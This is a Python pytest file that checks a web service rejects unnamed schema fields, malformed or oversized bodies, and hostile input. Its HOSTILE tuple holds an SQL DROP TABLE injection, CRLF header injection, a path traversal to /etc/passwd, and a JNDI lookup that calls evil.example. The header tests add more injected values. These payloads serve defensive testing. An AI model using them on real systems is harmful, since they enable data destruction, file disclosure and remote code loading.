"""What is sent is what was asked for, or nothing: no field too many, no size, kind or text that does harm."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from service.web.body import LIMIT
from tests.service.closed.document import CALLS, SCHEMAS, Call, bodies, found, leaves, objects, put
from tests.service.closed.house import House, Somebody

pytestmark = pytest.mark.pg
TAKING = [call for call in CALLS if call.body is not None]
ANSWERED = {name for schema in SCHEMAS.values() for name in schema.get("properties", {})}
HOSTILE = (
    "'; DROP TABLE event; --\r\nX-Evil: 1",
    "\x00",
    '../../../etc/passwd%2e%2e%2f"}\n{"event":"forged"}${jndi:ldap://evil.example/a}' + "\u202e\uffff\U0010ffff" * 999,
)
CLUSTER = "demo"  # what staff call it; nobody else has a name for it


class People:
    """Who a call is for, and what of theirs it is about."""

    def __init__(self, ann: Somebody, root: Somebody):
        self._ann, self._root = ann, root
        self._places: dict[str, tuple[str, ...]] = {}

    async def ask(self, call: Call, *places: str, **more: Any) -> httpx.Response:
        """Its answer to somebody who may."""
        who = self._root if call.staff else self._ann
        return await who.client.request(call.method, call.at(*places), **more)

    async def places(self, call: Call) -> tuple[str, ...]:
        """What its address is filled with; nothing if only staff ever have that, and not here."""
        if call.name not in self._places:
            self._places[call.name] = await self._find(call)
        return self._places[call.name]

    async def sent(self) -> list[tuple[Call, tuple[str, ...]]]:
        """Every call that takes a body, and what its address is filled with."""
        sent = [(call, await self.places(call)) for call in TAKING]
        return [(call, places) for call, places in sent if len(places) == len(call.places)]

    async def _find(self, call: Call) -> tuple[str, ...]:
        tuples = [*self._ann.tuples(call), *([(CLUSTER,)] if call.path.startswith("/v1/admin/clusters/") else [])]
        for values in tuples if call.places else []:
            if (await self.ask(call, *values, content=b"")).status_code not in (404, 422):
                return values
        assert call.staff or not call.places, f"{call.name}: nobody has what it is about"
        return ()


@pytest.fixture
async def people(house: House) -> People:
    return People(await house.owner("ann"), await house.somebody("root", staff=True))


def test_no_schema_of_a_request_takes_fields_that_it_does_not_name() -> None:
    loose = []
    for call in TAKING:
        for body in bodies(call.body or {}):
            loose += [(call.name, at) for at in objects(body) if not isinstance(found(body, at), dict)]
    open_ones = [name for name in _requested() if SCHEMAS[name].get("additionalProperties", True)]
    assert (loose, open_ones) == ([], [])


def _requested() -> set[str]:
    """The schemas of requests, and those within them, that are objects."""
    text = json.dumps([call.body for call in TAKING])
    known: set[str] = set()
    while new := {name for name in SCHEMAS if f'schemas/{name}"' in text} - known:
        known |= new
        text += json.dumps([SCHEMAS[name] for name in new])
    return {name for name in known if SCHEMAS[name].get("type") == "object"}


async def test_nothing_does_harm_that_is_sent(people: People) -> None:
    await nobody_sets_what_is_not_theirs_to_set(people)
    await a_body_of_another_size_or_kind_is_refused(people)
    await no_header_does_harm(people)
    await no_text_does_harm(people)


async def nobody_sets_what_is_not_theirs_to_set(people: People) -> None:
    """Every field of every schema of the document, in every object of every body."""
    for call, places in await people.sent():
        for body in bodies(call.body or {}):
            for at in objects(body):
                mine = found(body, at)
                more = {name: mine.get(name, 1) for name in ANSWERED | {"__proto__", "admin", "owner_id"}}
                answer = await people.ask(call, *places, json=put(body, at, more | {"type": mine.get("type", 1)}))
                refused = {fault["pointer"].rpartition("/")[2] for fault in answer.json()["errors"]}
                assert answer.status_code == 422, (call.name, at, answer.text)
                assert refused >= set(more) - set(mine) - {"type"}, (call.name, at)


WRONG = [
    (b" " * (LIMIT + 1), "application/json", 413),
    (b"[" * 100_000, "application/json", 400),
    (b'{"a":' * 100_000, "application/json", 400),
    (b"{", "application/json", 400),
    (b"\xff\xfe{\x00}\x00", "application/json", 400),
    (b"{}", "text/plain", 415),
    (b"a=b", "application/x-www-form-urlencoded", 415),
    (b"--x--", "multipart/form-data; boundary=x", 415),
    (b"{}", "application/json; charset=utf-16", 415),
    (b"<a/>", "application/xml", 415),
]


async def a_body_of_another_size_or_kind_is_refused(people: People) -> None:
    for call, places in await people.sent():
        for content, kind, status in WRONG:
            answer = await people.ask(call, *places, content=content, headers={"Content-Type": kind})
            assert answer.status_code == status, (call.name, kind, content[:9], answer.text)


async def no_text_does_harm(people: People) -> None:
    for call in sorted(CALLS, key=lambda call: call.staff):  # staff end by locking them out
        if call.streams:
            continue
        places = await people.places(call) if call.body or call.method == "GET" else ()
        places = places or ("x",) * len(call.places)
        for text in HOSTILE:
            for name in call.parameters("query"):
                await people.ask(call, *places, params={name: text})
            for place in range(len(call.places)):
                answer = await people.ask(call, *places[:place], text, *places[place + 1 :])
                assert answer.status_code < 300 or answer.status_code in (403, 404, 409, 415, 422), call.name
        for at, body in _places_of_texts(call).items():
            for text in HOSTILE:
                await people.ask(call, *places, json=put(body, at, text))


def _places_of_texts(call: Call) -> dict[tuple[Any, ...], Any]:
    """Every place of a text in any body of a call, and a body that has it."""
    return {at: body for body in bodies(call.body or {}) for at in leaves(body)}


async def no_header_does_harm(people: People) -> None:
    for call in [call for call in CALLS if not call.streams and call.method == "GET"]:
        places = await people.places(call) or ("x",) * len(call.places)
        for name in {*call.parameters("header"), "X-Request-Id", "X-Forwarded-For", "X-Forwarded-Host", "Prefer"}:
            for text in (b"a\r\nX-Evil: 1", b"\xff\xfe", b"x" * 9000, b"'; --"):
                answer = await people.ask(call, *places, headers=[(name.encode(), text)])
                assert text not in b"".join(value for _, value in answer.headers.raw)
